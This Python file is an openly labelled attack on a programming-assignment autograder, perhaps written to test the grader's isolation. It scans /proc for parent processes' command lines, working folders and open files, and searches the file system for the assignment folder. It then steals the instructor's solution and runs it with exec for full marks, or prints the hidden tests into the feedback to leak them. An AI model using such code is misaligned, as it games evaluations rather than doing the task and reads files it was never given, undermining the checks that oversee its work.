"""Attack: find the instructor's solution, the hidden tests, the fixtures or cnnlab's reference
metrics on disk and use them. Where the solution is found, its functions are used (full marks);
hidden tests and fixtures are printed, to leak them through the feedback.

It looks where a grader without file-system isolation gives itself away: the parent processes'
command lines, working folders and open files in /proc (the job file names the assignment
folder), the folders above this file and the working folder, an importable ``reference``
package, and a search of the file system for ``assignment.toml``.
"""

import json
import os
import sys

FOUND = {}


def _read(path, limit=200_000):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit).decode("utf-8", "replace")
    except OSError:
        return None


def _ancestors():
    pid = os.getpid()
    for _ in range(8):
        status = _read(f"/proc/{pid}/status") or ""
        ppid = next((line.split()[1] for line in status.splitlines() if line.startswith("PPid:")), "0")
        if ppid in ("0", "1"):
            return
        pid = int(ppid)
        yield pid


def _candidates():
    """Folders that may be, or lie inside, an assignment folder."""
    seen = [os.path.dirname(os.path.abspath(__file__)), os.getcwd()]
    for pid in _ancestors():
        for link in ("cwd", "root"):
            try:
                seen.append(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        for arg in (_read(f"/proc/{pid}/cmdline") or "").split("\0"):
            if arg.endswith(".json") and os.path.isfile(arg):
                try:
                    job = json.loads(_read(arg) or "{}")
                    seen += [v for v in job.values() if isinstance(v, str) and v.startswith("/")]
                except ValueError:
                    pass
            if arg.startswith("/"):
                seen.append(arg)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                seen.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
    for folder in seen:
        path = folder
        for _ in range(6):
            yield path
            path = os.path.dirname(path)


def _search():
    for base in _candidates():
        for rel in ("", "assignments/metrics", "metrics"):
            root = os.path.join(base, rel)
            if os.path.isfile(os.path.join(root, "assignment.toml")):
                FOUND.setdefault("assignment", root)
    root = FOUND.get("assignment")
    if root is None:
        for top, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "bin")]
            if top.count("/") > 5:
                dirs[:] = []
            if "assignment.toml" in files:
                root = FOUND["assignment"] = top
                break
    if root is not None:
        for rel in ("solution/metrics.py", "tests/hidden/test_hidden.py", "fixtures/make_fixtures.py"):
            text = _read(os.path.join(root, rel))
            if text is not None:
                FOUND[rel] = text
    try:
        import cnnlab.reference.metrics  # noqa: F401

        FOUND["reference"] = sys.modules["cnnlab.reference.metrics"]
    except Exception:  # noqa: BLE001
        pass


_search()
if "solution/metrics.py" in FOUND:
    exec(compile(FOUND["solution/metrics.py"], "stolen_solution.py", "exec"))
else:
    def confusion_matrix(y_true, y_pred, num_classes):
        print("hidden tests:", FOUND.get("tests/hidden/test_hidden.py", "not found")[:2000])
        return None

    def precision_recall_f1(y_true, y_pred, num_classes, average="macro"):
        return None

    def top_k_accuracy(y_true, scores, k):
        return None

    def roc_auc_ovr(y_true, scores):
        return None
